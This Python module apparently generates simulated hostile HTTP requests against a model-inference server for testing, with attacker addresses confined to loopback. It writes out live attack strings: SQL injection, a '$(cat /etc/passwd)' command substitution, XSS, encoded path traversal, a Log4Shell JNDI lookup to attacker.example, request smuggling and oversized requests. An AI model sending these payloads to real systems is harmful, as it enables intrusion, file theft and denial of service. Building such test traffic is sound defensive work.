"""What attackers send: malformed, traversing, injecting and oversized requests."""

from __future__ import annotations

import random
from collections.abc import Callable

_INJECTIONS = (
    "%27%20OR%20%271%27=%271", "1;DROP%20TABLE%20models--", "$(cat%20/etc/passwd)", "<script>alert(1)</script>",
)  # fmt: skip
#: The attackers' addresses (all of 127/8 is this machine).
ATTACKERS = ("127.66.6.13", "127.66.6.66", "127.66.7.21")


def _post(host: str, path: str, body: bytes, *headers: str, length: int | None = None) -> bytes:
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}", "User-Agent: sqlmap/1.8", "Content-Type: application/json"]
    lines += [f"Content-Length: {len(body) if length is None else length}", "Connection: close", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def _get(host: str, path: str, *headers: str) -> bytes:
    return ("\r\n".join([f"GET {path} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]) + "\r\n\r\n").encode()


def _broken_json(host: str, model: str, rng: random.Random) -> bytes:
    return _post(host, f"/v2/models/{model}/infer", b'{"inputs": [{"name": ' + b"[" * rng.randrange(4, 40))


def _wrong_type(host: str, model: str, rng: random.Random) -> bytes:
    body = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1,%d],"data":["a"]}]}' % rng.randrange(10**6, 10**9)
    return _post(host, f"/v2/models/{model}/infer", body)


def _traversal(host: str, model: str, rng: random.Random) -> bytes:
    up = rng.choice(("../", "%2e%2e/", "..%2f", "%252e%252e%252f")) * rng.randrange(3, 7)
    return _get(host, f"/v2/models/{up}etc/passwd")


def _injection(host: str, model: str, rng: random.Random) -> bytes:
    return _post(host, f"/v2/models/{model}/infer?id={rng.choice(_INJECTIONS)}", b"{}")


def _lookup(host: str, model: str, rng: random.Random) -> bytes:
    return _get(host, f"/v2/models/{model}", "User-Agent: ${jndi:ldap://attacker.example/a}", "X-Api-Version: 2")


def _oversized(host: str, model: str, rng: random.Random) -> bytes:
    return _post(host, f"/v2/models/{model}/infer", b"{", length=rng.randrange(10**9, 10**12))


def _long_header(host: str, model: str, rng: random.Random) -> bytes:
    return _get(host, f"/v2/models/{model}", "X-Fill: " + "A" * rng.randrange(100_000, 200_000))


def _smuggling(host: str, model: str, rng: random.Random) -> bytes:
    return _post(host, f"/v2/models/{model}/infer", b"0\r\n\r\nGET / HTTP/1.1\r\n\r\n", "Transfer-Encoding: chunked")


KINDS: tuple[Callable[[str, str, random.Random], bytes], ...] = (
    _broken_json, _wrong_type, _traversal, _injection, _lookup, _oversized, _long_header, _smuggling,
)  # fmt: skip


def hostile(host: str, model: str, rng: random.Random) -> bytes:
    """One hostile request."""
    return rng.choice(KINDS)(host, model, rng)
